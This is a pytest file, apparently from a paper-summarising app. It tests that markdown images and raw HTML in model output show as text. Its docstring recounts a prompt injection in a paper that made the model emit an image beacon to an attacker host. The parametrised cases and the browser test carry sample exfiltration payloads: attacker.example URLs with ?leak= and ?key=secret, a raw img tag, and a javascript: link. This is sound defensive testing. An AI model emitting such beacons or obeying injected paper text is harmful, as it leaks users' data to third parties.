"""Issue 10, defect 4: model output is shown as text plus safe formatting.

A paper with a prompt injection made the model write ``![](https://attacker/?leak=...)`` and
every visitor's browser fetched it (the beacon was hit three times). Images and raw HTML from
the model are not rendered now: their alt text and URL show as text.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler

import pytest

from chatpaper.i18n import get_language
from chatpaper.pipeline import StageResult
from chatpaper.render import defuse_model_markdown, render_stage
from tests.fakes.gemini_server import text_reply
from tests.fakes.local_server import LocalServer
from tests.fakes.stage_replies import stage_answer, stage_of


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("See ![a chart](https://attacker.example/?leak=k) here", "a chart (`https://attacker.example/?leak=k`)"),
        ('![](https://attacker.example/p.png "t")', "`https://attacker.example/p.png`"),
        ("![x][ref]\n\n[ref]: https://attacker.example/p.png", "!\\[x][ref]"),
        ('<img src="https://attacker.example/p.png">', '&lt;img src="https://attacker.example/p.png">'),
    ],
)  # fmt: skip
def test_images_and_html_from_the_model_show_as_text(answer, shown):
    text = defuse_model_markdown(answer)
    assert shown in text
    assert "](https://attacker" not in text.replace("!\\[", "")  # no image syntax is left


def test_safe_formatting_and_links_are_kept():
    answer = "(1) **Bold** and *italic*, a [link](https://arxiv.org/abs/2402.00864), `code`."
    assert defuse_model_markdown(answer) == answer
    panel = render_stage(StageResult(answer, True), get_language("en"))
    assert "[link](https://arxiv.org/abs/2402.00864)" in panel


def test_hostile_image_syntax_is_defused_in_linear_time():
    defuse_model_markdown("![" * 100_000 + "](" * 100_000)  # returns at once; no assertion on time


class ImageHost(LocalServer):
    """The attacker's server: records every request a browser makes to it."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self._lock = threading.Lock()

    def _handler_class(self) -> type[BaseHTTPRequestHandler]:
        host = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def do_GET(self) -> None:
                with host._lock:
                    host.requests.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

        return Handler

    @property
    def url(self) -> str:
        assert self._server is not None
        return f"http://127.0.0.1:{self._server.server_address[1]}"


@pytest.mark.browser
def test_the_browser_fetches_nothing_from_an_image_host_in_model_output(fake_gemini, tmp_path):
    from dataclasses import replace

    from tests.fakes.arxiv_server import FakeArxiv
    from tests.paperkit import sample_pdf
    from tests.test_app_e2e import launch
    from tests.test_browser import CHROMIUM, _playwright

    sync_playwright = _playwright()
    with ImageHost() as host, FakeArxiv() as arxiv:
        host_url = host.url
        injection = (
            f"\n\nSee ![chart]({host_url}/leak.png?key=secret) and "
            f'<img src="{host_url}/raw.png"> and [click me](javascript:alert(1)).'
        )

        def reply(request):
            answer = stage_answer(request.system, request.prompt)
            if stage_of(request.prompt) in ("methods", "conclusion"):
                answer += injection
            return text_reply(answer, chunks=3)

        fake_gemini.reply_generator = reply
        arxiv.add_paper("2402.00864", title="An Injected Paper", pdf=sample_pdf("An Injected Paper"))
        demo, url = launch(replace(arxiv.settings(), cache_dir=tmp_path / "cache", max_figures=0))
        seen: list[str] = []
        try:
            with sync_playwright() as pw:
                browser = pw.chromium.launch(
                    executable_path=CHROMIUM,
                    args=["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                          "--disable-component-update", "--no-first-run"],
                )  # fmt: skip
                page = browser.new_page(viewport={"width": 1440, "height": 900})
                page.set_default_timeout(30_000)
                page.on("request", lambda r: seen.append(r.url))
                page.goto(url)
                page.fill("#arxiv-input textarea", "2402.00864")
                page.click("#summarize")
                page.locator("#status").get_by_text("Finished").wait_for()
                methods = page.locator("#stage-methods").inner_text()
                page.screenshot(path=str(tmp_path / "injected.png"), full_page=True)
                browser.close()
        finally:
            demo.close()
    assert not [u for u in seen if u.startswith(host_url)], seen
    assert host.requests == []
    assert "chart" in methods and "/leak.png?key=secret" in methods  # shown as text
    assert "<img" in methods  # raw HTML shown as text
